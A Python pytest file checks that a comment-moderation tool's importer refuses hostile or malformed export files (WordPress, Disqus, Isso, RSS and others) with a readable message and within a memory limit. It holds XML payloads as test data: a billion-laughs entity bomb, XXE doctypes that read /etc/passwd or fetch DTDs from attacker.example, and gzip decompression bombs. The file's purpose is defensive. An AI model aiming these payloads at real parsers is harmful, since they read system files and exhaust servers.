"""What attacks, lies or is broken: never a traceback, never much memory, always a sentence."""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from moderation.__main__ import main
from moderation.core.problem import Problem
from moderation.core.signing import Signer
from moderation.db import connect
from moderation.db.database import Database
from moderation.sites import store as sites
from moderation.sites.model import Site
from moderation.transfer.formats.file import File
from moderation.transfer.formats.readers import READERS, reader_for
from moderation.transfer.importing import Importer
from moderation.transfer.records import ImportedArticle, ImportedComment, Record, Skipped
from tests.budget import daily
from tests.conftest import ROOT
from tests.transfer import foreign
from tests.transfer.foreign import Row

SEAL = Signer(b"a secret of the tests")


@dataclass
class Shelf:
    """One database for many examples, each with a site of its own, and the loop that it lives in."""

    loop: asyncio.AbstractEventLoop
    database: Database
    sites: int = 0

    def settle(self, found: list[Record]) -> None:
        """Whatever a reader yields comes in, or is left out with a reason."""
        self.loop.run_until_complete(self._settle(found))

    async def _settle(self, found: list[Record]) -> None:
        self.sites += 1
        site = f"s{self.sites}"
        async with self.database.transaction() as tx:
            await sites.put_site(tx, Site(key=site, name=site), 1)
        told = await Importer(self.database, SEAL, site, "fuzz", 1_900_000_000_000).run(iter(found))
        rows = sum(isinstance(record, ImportedComment | Skipped) for record in found)
        assert told.comments.total() + told.skipped.total() + told.known == rows


@pytest.fixture
def shelf(address: str) -> Iterator[Shelf]:
    loop, database = asyncio.new_event_loop(), connect(address)
    loop.run_until_complete(database.open())
    yield Shelf(loop, database)
    loop.run_until_complete(database.close())
    loop.close()


def records(file: Path, named: str | None = None) -> list[Record]:
    """All that a reader says of it. Raises Problem only."""
    opened = File(str(file))
    try:
        reader = reader_for(opened, named)
        return list(reader.read(opened, reader.keys))
    finally:
        opened.close()


GOOD = {
    "wordpress": foreign.wxr(foreign.wxr_post([Row(1), Row(2, 1)])),
    "wp-cli": foreign.wp_list([Row(1), Row(2, 1)]),
    "disqus": foreign.disqus([Row(1), Row(2, 1)]),
    "remark42": foreign.remark42([Row(1), Row(2, 1)]),
    "sitemap": foreign.SITEMAP.encode(),
    "rss": foreign.RSS.encode(),
    "leave-a-reply": b'{"format":"leave-a-reply","version":1,"site":"x"}\n'
    + json.dumps({"article": {"key": "a", "title": "", "url": None, "text": "", "published_at": None, "comments_open": True, "ids": []}}).encode()
    + b"\n"
    + json.dumps(
        {
            "comment": {
                "id": "01e77v87d001wv2ywj1y2x41e9", "article": "a", "parent": None, "status": "approved", "revision": 1,
                "name": "Ann", "email": "", "url": None, "body": "Hello", "format": "markdown",
                "created_at": "2020-05-01T10:00:00Z", "edited_at": None, "notify": False, "judged": 1, "decided": True,
                "ids": [["wordpress", "1"]],
                "verdicts": [{"revision": 1, "source": "comment", "action": "publish", "scores": {"spam": 0.1}, "model": "m",
                              "reasons": [{"rule": "label", "weight": 1, "spans": [[0, 1]]}], "facts": {}, "created_at": "2020-05-01T10:00:00Z"}],
                "decisions": [{"id": "01e77v87d001wv2ywj1y2x41e8", "judged": 1, "action": "approve", "labels": [], "note": "", "moderator": "m",
                               "before": "pending", "after": "approved", "after_revision": 1, "created_at": "2020-05-01T10:00:00Z",
                               "undone_at": None, "undone_by": None}],
            }
        }
    ).encode()
    + b'\n{"end":{}}\n',
}  # fmt: skip

XML = ("wordpress", "disqus", "sitemap", "rss")
BOMB = (
    """<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>"""
)
DOCTYPES = [
    BOMB,
    '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">',
    '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    "<!DOCTYPE rss>",
]


@pytest.mark.parametrize("system", XML)
@pytest.mark.parametrize("doctype", DOCTYPES)
def test_a_document_type_is_refused(tmp_path: Path, system: str, doctype: str) -> None:
    file = tmp_path / "export.xml"
    file.write_bytes(GOOD[system].replace(b"?>", b"?>" + doctype.encode(), 1))
    with pytest.raises(Problem, match="document type or entities"):
        records(file)


def test_an_entity_that_nobody_declared_is_text(tmp_path: Path) -> None:
    file = tmp_path / "export.xml"
    file.write_bytes(
        GOOD["wordpress"].replace(b"<![CDATA[Hello &amp; welcome]]>", b"Hello &passwd; &nbsp;&amp;lt; &#x26;")
    )
    article = records(file)[0]
    assert isinstance(article, ImportedArticle)
    assert article.title == "Hello &passwd; < &"


@pytest.mark.parametrize("system", sorted(READERS))
def test_what_is_something_else_is_refused_with_what_to_do(tmp_path: Path, system: str) -> None:
    file = tmp_path / "export"
    for content in (
        b"",
        b"\n \n",
        b"Dear Sir or Madam",
        b"{}",
        b"<html></html>",
        bytes(range(256)) * 10,
        b"\x1f\x8b broken",
    ):
        file.write_bytes(content)
        for named in (None, system):
            with pytest.raises(Problem) as refused:
                records(file, named)
            assert len(refused.value.detail) > 20
    other = "disqus" if system != "disqus" else "wordpress"
    file.write_bytes(GOOD[other])
    with pytest.raises(Problem, match=f"--from {other}"):
        records(file, system)


def test_wp_lists_without_texts_are_told_the_right_command(tmp_path: Path) -> None:
    file = tmp_path / "comments.json"
    file.write_text('[{"comment_ID":"1","comment_post_ID":"1","comment_approved":"1"}]')
    with pytest.raises(Problem, match=r"wp comment list .*--fields=comment_ID,.*comment_content"):
        records(file)


def test_a_view_in_place_of_a_table_is_no_database_of_isso(tmp_path: Path) -> None:
    file = foreign.isso(tmp_path / "isso.db", [Row(1)])
    database = sqlite3.connect(file)
    database.executescript(
        """ALTER TABLE comments RENAME TO kept; CREATE VIEW comments AS
        WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)
        SELECT x AS id, 3 AS tid, NULL AS parent, 1 AS created, 1 AS modified, 1 AS mode, 'a' AS text, 'b' AS author,
        '' AS email, '' AS website FROM n;"""
    )
    database.close()
    with pytest.raises(Problem, match="no database of isso"):
        records(file)
    assert not list(tmp_path.glob("isso.db-*"))  # nothing is written beside it either


def test_odd_values_in_isso_are_taken_as_they_come(tmp_path: Path) -> None:
    file = foreign.isso(tmp_path / "isso.db", [Row(1), Row(2), Row(3)])
    database = sqlite3.connect(file)
    database.execute(
        "UPDATE comments SET text = x'ff00fe', author = 12, created = 'yesterday', mode = 'x', parent = 'y' WHERE id = 1"
    )
    database.execute("UPDATE comments SET tid = 44 WHERE id = 2")
    database.execute("UPDATE comments SET created = 1e300, email = x'00' WHERE id = 3")
    database.commit()
    database.close()
    found = records(file)
    assert len([r for r in found if isinstance(r, ImportedComment)]) == 2


cuts = st.tuples(st.sampled_from(sorted(GOOD)), st.floats(0, 1), st.floats(0, 0.3), st.binary(max_size=40))


@given(cuts)
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_give_records_or_a_sentence(
    shelf: Shelf, tmp_path: Path, change: tuple[str, float, float, bytes]
) -> None:
    system, at, length, instead = change
    good = GOOD[system]
    start = int(at * len(good))
    end = start + int(length * len(good))
    file = tmp_path / "export"
    file.write_bytes(good[:start] + instead + good[end:])
    try:
        found = records(file)
    except Problem as problem:
        assert problem.detail
        return
    shelf.settle(found)


@given(st.sampled_from(sorted(GOOD)), st.data())
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_value_in_any_field_gives_records_or_a_reason(
    shelf: Shelf, tmp_path: Path, system: str, data: st.DataObject
) -> None:
    """The form is right, the content is anybody's."""
    texts = st.text(max_size=60) | st.sampled_from(
        ["\0", "a\0b", "\ud800", "\u202e", "9" * 40, "http://[", "-1", "0001-01-01T00:00:00Z"]
    )
    file = tmp_path / "export"
    if system in XML:
        text = GOOD[system].decode()
        spots = [m.span(1) for m in re.finditer(r">([^<>]+)<|CDATA\[(.*?)\]\]", text) if m[1]]
        start, end = data.draw(st.sampled_from(spots))
        clean = data.draw(texts).encode("utf-8", "replace").decode().replace("&", "").replace("<", "")
        file.write_text(text[:start] + clean + text[end:])
    else:
        lines = GOOD[system].decode().splitlines()
        row = data.draw(st.integers(0, len(lines) - 1))
        any_json = st.recursive(
            st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | texts,
            lambda inner: (
                st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["id", "body", "url"]), inner, max_size=2)
            ),
            max_leaves=5,
        )
        fields = sorted(set(re.findall(r'"(\w+)":', lines[row])))
        name, value = data.draw(st.sampled_from(fields or ["id"])), data.draw(any_json)
        pattern = rf'"{name}": ?("(?:[^"\\]|\\.)*"|[-0-9.]+|true|false|null|\[\])'
        lines[row] = re.sub(pattern, lambda _: f'"{name}":{json.dumps(value)}', lines[row])
        file.write_text("\n".join(lines) + "\n", errors="surrogatepass")
    try:
        found = records(file)
    except Problem as problem:
        assert problem.detail
        return
    shelf.settle(found)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"nonsense",
        GOOD["wordpress"][:700],
        GOOD["wordpress"].replace(b"?>", b"?>" + BOMB.encode(), 1),
        gzip.compress(GOOD["disqus"])[:200],
    ],
)
def test_the_command_says_a_sentence_and_exits_with_1(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    monkeypatch.setenv("MODERATION_DATABASE", str(tmp_path / "db"))
    (tmp_path / "export").write_bytes(content)
    assert main(["import", str(tmp_path / "export")]) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.strip().splitlines()[-1].startswith("moderation: ")
    assert main(["import", str(tmp_path / "nowhere")]) == 1
    assert main(["import", str(tmp_path)]) == 1
    assert main(["import", str(tmp_path / "export"), "--site", "nowhere"]) == 1
    assert "no site" in capsys.readouterr().err


# --- memory ------------------------------------------------------------------------------------------------------------

LIMIT_MB = 150
"""Of the whole process. Python with our libraries takes some 50 MB before it reads a byte."""


def run_import(file: Path, *more: str) -> tuple[subprocess.CompletedProcess[str], float]:
    """The command as a process of its own, and the most memory it ever had, in MB."""
    environment = {name: value for name, value in os.environ.items() if not name.startswith("MODERATION_")}
    environment |= {"PYTHONPATH": str(ROOT), "MODERATION_DATABASE": str(file.parent / "data" / "db.sqlite3")}
    program = (
        "import re, sys; from pathlib import Path; from moderation.__main__ import main; "
        "Path('/proc/self/clear_refs').write_text('5'); status = main(sys.argv[1:]); "  # from here, not from the start
        "print(re.search(r'VmHWM:\\s+(\\d+) kB', Path('/proc/self/status').read_text())[1], file=sys.stderr); sys.exit(status)"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, "import", str(file), *more],
        env=environment, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    return done, int(done.stderr.split()[-1]) / 1024


linux = pytest.mark.skipif(sys.platform != "linux", reason="the most memory that a process had is asked of Linux")


@linux
@pytest.mark.parametrize(
    "attack",
    daily(
        [
            "one long text",
            "one long tag",
            "one long comment",
            "many names",
            "deep nesting",
            "one long line",
            "zeros",
            "deep json",
        ],
        2,
    ),
)
def test_an_attack_on_memory_stays_small(tmp_path: Path, attack: str) -> None:
    """Each unpacks to 200 MB or more from a file of a few hundred kilobytes."""
    mb, file = b"x" * 1_000_000, tmp_path / "export.gz"
    head, middle, tail = foreign.CHANNEL.encode(), b"<item><title>", b"</title></item></channel></rss>"
    pieces = {
        "one long text": lambda: (head + middle, *[mb] * 200, tail),
        "one long tag": lambda: (head, b"<item a='", *[mb] * 200, b"'/>"),
        "one long comment": lambda: (head, b"<!--", *[mb] * 200, b"-->"),
        "many names": lambda: (head, *(b"".join(b"<n%d-%d/>" % (n, m) for m in range(10_000)) for n in range(500))),
        "deep nesting": lambda: (head, *[b"<a>" * 300_000] * 200),
        "one long line": lambda: (GOOD["remark42"], b'{"id":"', *[mb] * 200, b'"}\n'),
        "zeros": lambda: (b"{" + b'"version":1,"users":[],"posts":[]}\n', *[bytes(1_000_000)] * 300),
        "deep json": lambda: (b"[{", b'"a":', *[b"[" * 1_000_000] * 200),
    }[attack]()
    with gzip.open(file, "wb", compresslevel=1) as out:
        for piece in pieces:
            out.write(piece)
    done, peak = run_import(file)
    assert done.returncode in (0, 1, 3), done.stderr
    assert "Traceback" not in done.stderr
    assert peak < LIMIT_MB, f"{peak:.0f} MB"


@linux
@pytest.mark.parametrize("system", daily(["wordpress", "wp-cli", "disqus", "remark42"], 1))
def test_a_large_file_needs_no_more_memory_than_a_small_one(tmp_path: Path, system: str) -> None:
    """10,000 comments; the benchmark does the same with a gigabyte (benchmarks/importing.py)."""
    rows = (Row(n, n - 1 if n % 3 else 0, body=f"Words of comment {n}. " * 40) for n in range(1, 10_001))
    file = tmp_path / "export"
    made = {"wordpress": lambda: foreign.wxr(foreign.wxr_post(rows)), "wp-cli": lambda: foreign.wp_list(rows),
            "disqus": lambda: foreign.disqus(rows), "remark42": lambda: foreign.remark42(rows)}  # fmt: skip
    file.write_bytes(made[system]())
    done, peak = run_import(file)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["comments"] == {"approved": 10_000}
    assert peak < LIMIT_MB, f"{peak:.0f} MB"
